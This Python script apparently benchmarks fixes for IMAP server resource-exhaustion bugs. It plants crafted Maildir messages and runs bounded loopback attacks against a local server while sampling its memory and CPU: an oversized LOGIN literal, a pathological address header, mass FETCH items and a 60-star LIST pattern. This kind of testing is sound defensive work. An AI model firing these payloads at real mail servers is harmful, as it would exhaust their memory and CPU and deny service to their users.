#!/usr/bin/env python3
"""
The IMAP cost attacks of issue 13, each against a running server whose process id is given, measuring the server's
peak resident set (VmRSS sampled every 20 ms from /proc/PID/status) and the time the attack takes. Loopback only;
every loop is bounded in bytes and seconds.

  attacks.py plant MAILDIR                  write the attack messages into a Maildir (new/)
  attacks.py run ATTACK --port P --pid PID [--items N]
                                            run one attack: literal, literal-sync, envelope, fetch, list, headerless
                                            (--items: BODY.PEEK[] items in the fetch attack, default 300)
"""
import argparse
import os
import socket
import sys
import threading
import time

USER = "bench@example.org"
PASSWORD = "secret"

# (x)(x)... then a,a,...: every address after the comments made the old parser scan every comment again.
ENVELOPE_PAIRS = 320_000
FETCH_MESSAGE_BYTES = 5 * 1024 * 1024
LIST_STARS = 60
LITERAL_BYTES = 1024 * 1024 * 1024


def plant(maildir):
    for sub in ("new", "cur", "tmp"):
        os.makedirs(os.path.join(maildir, sub), exist_ok=True)
    to = b"(x)" * ENVELOPE_PAIRS + b"a," * (ENVELOPE_PAIRS - 1) + b"a"
    line = b"y" * 76 + b"\r\n"
    messages = [
        b"From: attacker@example.net\r\nTo: " + to + b"\r\nSubject: addresses\r\n\r\nHello.\r\n",
        b"From: big@example.net\r\nSubject: big\r\n\r\n" + line * (FETCH_MESSAGE_BYTES // len(line)),
        # No header at all: the file starts with its body.
        b"\tThis message has no header.\r\nIt is only a body.\r\n",
    ]
    now = int(time.time())
    for i, data in enumerate(messages):
        base = f"{now}.M{i}P{os.getpid()}Q{i + 1}.attack"
        path = os.path.join(maildir, "tmp", base)
        with open(path, "wb") as f:
            f.write(data)
        os.rename(path, os.path.join(maildir, "new", f"{base},S={len(data)}"))


class Sampler(threading.Thread):
    """Peak VmRSS of a process, sampled every 20 ms until stopped."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.peak = self.baseline = rss_kib(pid)
        self.running = True

    def run(self):
        while self.running:
            self.peak = max(self.peak, rss_kib(self.pid))
            time.sleep(0.02)

    def stop(self):
        self.running = False
        self.join()
        self.peak = max(self.peak, rss_kib(self.pid))


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Client:
    def __init__(self, port, timeout):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.buffer = b""
        self.line()

    def line(self):
        while b"\r\n" not in self.buffer:
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                raise EOFError("server closed the connection")
            self.buffer += chunk
        line, self.buffer = self.buffer.split(b"\r\n", 1)
        return line

    def until_tagged(self, tag):
        """Reads (and drops) the response up to the tagged line, literals included; returns the tagged line."""
        received = 0
        scratch = bytearray(1 << 20)
        while True:
            line = self.line()
            received += len(line) + 2
            if line.startswith(tag + b" "):
                return line, received
            if line.endswith(b"}") and b"{" in line:
                size = int(line[line.rindex(b"{") + 1:-1].rstrip(b"+"))
                taken = min(size, len(self.buffer))
                self.buffer = self.buffer[taken:]
                received += taken
                left = size - taken
                while left > 0:
                    count = self.sock.recv_into(scratch)
                    if not count:
                        raise EOFError("server closed the connection inside a literal")
                    received += min(count, left)
                    if count > left:
                        self.buffer = bytes(scratch[left:count])
                    left -= min(count, left)

    def command(self, tag, text):
        self.sock.sendall(tag + b" " + text + b"\r\n")
        return self.until_tagged(tag)

    def login_and_select(self):
        self.command(b"L", f"LOGIN {USER} {PASSWORD}".encode())
        self.command(b"S", b"EXAMINE INBOX")


def literal(port, synchronizing):
    """Pre-login LOGIN with a 20-digit literal size, then up to LITERAL_BYTES of data as fast as the server takes it."""
    client = Client(port, timeout=30)
    marker = b"{99999999999999999999}" if synchronizing else b"{99999999999999999999+}"
    client.sock.sendall(b"a LOGIN " + marker + b"\r\n")
    if synchronizing:
        reply = client.line()
        if not reply.startswith(b"+"):
            return f"refused before any data: {reply.decode(errors='replace')}"
    chunk = b"x" * (1 << 20)
    sent = 0
    try:
        while sent < LITERAL_BYTES:
            client.sock.sendall(chunk)
            sent += len(chunk)
    except OSError as error:
        return f"server closed after {sent >> 20} MiB sent ({error.__class__.__name__})"
    client.sock.settimeout(2)
    try:
        reply = client.line().decode(errors="replace")
    except (OSError, EOFError):
        reply = "(no reply)"
    return f"server took all {sent >> 20} MiB; then said: {reply}"


def envelope(port):
    client = Client(port, timeout=600)
    client.login_and_select()
    tagged, received = client.command(b"e", b"FETCH 1 (ENVELOPE)")
    return f"{tagged.decode()} ({received} bytes of response)"


def fetch(port, count):
    client = Client(port, timeout=600)
    client.login_and_select()
    items = b" ".join([b"BODY.PEEK[]"] * count)
    tagged, received = client.command(b"f", b"FETCH 2 (" + items + b")")
    return f"{tagged.decode()} ({received >> 20} MiB of response)"


def list_pattern(port, pid):
    """LIST with 60 stars that cannot match; the client leaves after 5 s and the server's CPU is watched for 10 s more."""
    client = Client(port, timeout=5)
    client.command(b"L", f"LOGIN {USER} {PASSWORD}".encode())
    started = time.perf_counter()
    try:
        tagged, _ = client.command(b"l", b'LIST "" "' + b"*" * LIST_STARS + b'zzz"')
        answer = f"{tagged.decode()} after {time.perf_counter() - started:.3f} s"
    except socket.timeout:
        answer = "no answer within 5 s; client disconnected"
    client.sock.close()
    cpu = cpu_seconds(pid)
    time.sleep(10)
    return f"{answer}; server CPU in the 10 s after the client left: {cpu_seconds(pid) - cpu:.2f} s"


def headerless(port):
    client = Client(port, timeout=60)
    client.login_and_select()
    replies = []
    for tag, command in ((b"h1", b"FETCH 3 (ENVELOPE)"), (b"h2", b"FETCH 3 (BODYSTRUCTURE)"), (b"h3", b"SEARCH TEXT body")):
        try:
            replies.append(client.command(tag, command)[0].decode())
        except EOFError:
            replies.append(f"{tag.decode()}: connection closed")
            break
    return "; ".join(replies)


def run(args):
    sampler = Sampler(args.pid)
    sampler.start()
    started = time.perf_counter()
    try:
        if args.attack in ("literal", "literal-sync"):
            outcome = literal(args.port, synchronizing=args.attack == "literal-sync")
        elif args.attack == "envelope":
            outcome = envelope(args.port)
        elif args.attack == "fetch":
            outcome = fetch(args.port, args.items)
        elif args.attack == "list":
            outcome = list_pattern(args.port, args.pid)
        else:
            outcome = headerless(args.port)
    except (OSError, EOFError) as error:
        outcome = f"failed: {error}"
    elapsed = time.perf_counter() - started
    sampler.stop()
    print(f"{args.attack}: rss {sampler.baseline // 1024} MiB -> peak {sampler.peak // 1024} MiB, "
          f"{elapsed:.2f} s: {outcome}")


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="verb", required=True)
    p = sub.add_parser("plant")
    p.add_argument("maildir")
    r = sub.add_parser("run")
    r.add_argument("attack", choices=["literal", "literal-sync", "envelope", "fetch", "list", "headerless"])
    r.add_argument("--port", type=int, required=True)
    r.add_argument("--pid", type=int, required=True)
    r.add_argument("--items", type=int, default=300)
    args = parser.parse_args()
    if args.verb == "plant":
        plant(args.maildir)
    else:
        run(args)


if __name__ == "__main__":
    sys.exit(main())
